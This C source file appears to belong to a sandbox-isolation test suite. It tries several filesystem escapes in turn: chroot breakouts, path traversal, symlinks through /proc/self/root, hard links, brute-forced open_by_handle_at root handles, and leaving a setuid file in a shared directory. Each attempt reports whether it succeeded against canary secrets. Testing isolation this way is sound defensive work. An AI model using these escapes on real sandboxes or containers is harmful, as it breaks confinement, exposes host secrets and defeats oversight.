/* Ways to files of the host by names, links, descriptors and handles. */
#include "attack.h"
#include <glob.h>

static void climb_out(void) {
  for (int step = 0; step < 128; step++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) refused("second chroot: %s", strerror(errno));
  if (secret_below("")) succeeded("read %s", fact("SECRET"));
  refused("the climb ended in a root without the secret");
}

static void chroot_dotdot(void) {
  if (chroot(scratch("jail")) != 0) refused("chroot: %s", strerror(errno));
  climb_out();
}

static void chroot_descriptor(void) {
  const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chroot(scratch("jail")) != 0) refused("chroot: %s", strerror(errno));
  if (fchdir(root) != 0) refused("fchdir: %s", strerror(errno));
  climb_out();
}

static void read_by_path(void) {
  if (secret_below("")) succeeded("read %s", fact("SECRET"));
  char path[4096];
  for (int depth = 1; depth < 40; depth++) {
    char *at = path;
    for (int step = 0; step < depth; step++) at = stpcpy(at, "../");
    snprintf(at, sizeof path - (size_t)(at - path), "%s", fact("SECRET") + 1);
    if (holds_secret(path)) succeeded("read %s", path);
  }
  refused("%s: %s", fact("SECRET"), strerror(errno));
}

static void create(const char *directory) {
  char path[4096];
  snprintf(path, sizeof path, "%s/written-from-inside", directory);
  const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) refused("%s: %s", path, strerror(errno));
  /* A directory of that name in the sandbox is not the host's: the file that was put there tells. */
  snprintf(path, sizeof path, "%s/host-was-here", directory);
  if (access(path, F_OK) != 0) refused("%s is a directory of the sandbox", directory);
  succeeded("wrote to %s", directory);
}

static void write_by_path(void) { create(fact("CANARY")); }
static void store_write(void) { create(fact("STORE")); }

static void through_link(const char *target, const char *name) {
  char link[512];
  snprintf(link, sizeof link, "%s/%s", scratch("links"), name);
  unlink(link);
  if (symlink(target, link) != 0) unavailable("symlink: %s", strerror(errno));
  if (holds_secret(link)) succeeded("read %s through a link", target);
}

static void symlink_read(void) {
  char path[4096];
  through_link(fact("SECRET"), "absolute");
  snprintf(path, sizeof path, "../../../../../../../../../../../../../..%s", fact("SECRET"));
  through_link(path, "relative");
  snprintf(path, sizeof path, "/proc/self/root%s", fact("SECRET"));
  through_link(path, "magic");
  refused("links lead to files of the sandbox");
}

static void symlink_write(void) {
  char link[512];
  snprintf(link, sizeof link, "%s/canary", scratch("links"));
  unlink(link);
  if (symlink(fact("CANARY"), link) != 0) unavailable("symlink: %s", strerror(errno));
  create(link);
}

static void hard_link(void) {
  char path[512];
  snprintf(path, sizeof path, "%s/hard", scratch("links"));
  unlink(path);
  if (link(fact("SECRET"), path) != 0) refused("link: %s", strerror(errno));
  if (holds_secret(path)) succeeded("a hard link to %s", fact("SECRET"));
  refused("the link shows nothing");
}

/* ext4, xfs, btrfs and tmpfs know their root by small numbers. */
static void handle_of_root(void) {
  static const char *const mounts[] = {".", "/", "/tmp", "/etc", "/dev", NULL};
  for (const char *const *mount = mounts; *mount; mount++) {
    const int at = open(*mount, O_RDONLY | O_CLOEXEC);
    for (unsigned inode = 1; at >= 0 && inode <= 256; inode++) {
      struct { struct file_handle head; unsigned body[2]; } handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
      memcpy(handle.head.f_handle, (unsigned[]){inode, 0}, 8);
      const int root = open_by_handle_at(at, &handle.head, O_RDONLY | O_CLOEXEC);
      if (root < 0 && (errno == EPERM || errno == ENOSYS)) refused("open_by_handle_at: %s", strerror(errno));
      if (root >= 0) succeeded("opened inode %u of the file system of %s", inode, *mount);
    }
    if (at >= 0) close(at);
  }
  refused("open_by_handle_at: %s", strerror(errno));
}

static void home(void) { if (holds_secret(fact("HOME_SECRET"))) succeeded("read %s", fact("HOME_SECRET")); }
static void temporary(void) { if (holds_secret(fact("TMP_SECRET"))) succeeded("read %s", fact("TMP_SECRET")); }
static void store_read(void) { if (holds_secret(fact("STORE_SECRET"))) succeeded("read %s", fact("STORE_SECRET")); }

/* The caller's rights may be left behind in a directory that both see. */
static void leave_setuid(void) {
  char path[512];
  snprintf(path, sizeof path, "%s/left-set-uid", scratch("left"));
  const int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
  if (fd < 0) unavailable("%s: %s", path, strerror(errno));
  struct stat seen;
  if (fchmod(fd, 06755) != 0) refused("chmod 6755: %s", strerror(errno));
  if (fstat(fd, &seen) == 0 && (seen.st_mode & 06000)) succeeded("a file of mode %o is in the bind", seen.st_mode);
}

const struct attempt filesystem_attempts[] = {
    {"chroot-dotdot", chroot_dotdot}, {"chroot-descriptor", chroot_descriptor}, {"read-by-path", read_by_path},
    {"write-by-path", write_by_path}, {"symlink-read", symlink_read}, {"symlink-write", symlink_write},
    {"hard-link", hard_link}, {"open-by-handle", handle_of_root}, {"host-home", home}, {"host-tmp", temporary},
    {"store-read", store_read}, {"store-write", store_write}, {"leave-set-uid", leave_setuid}, {NULL, NULL},
};
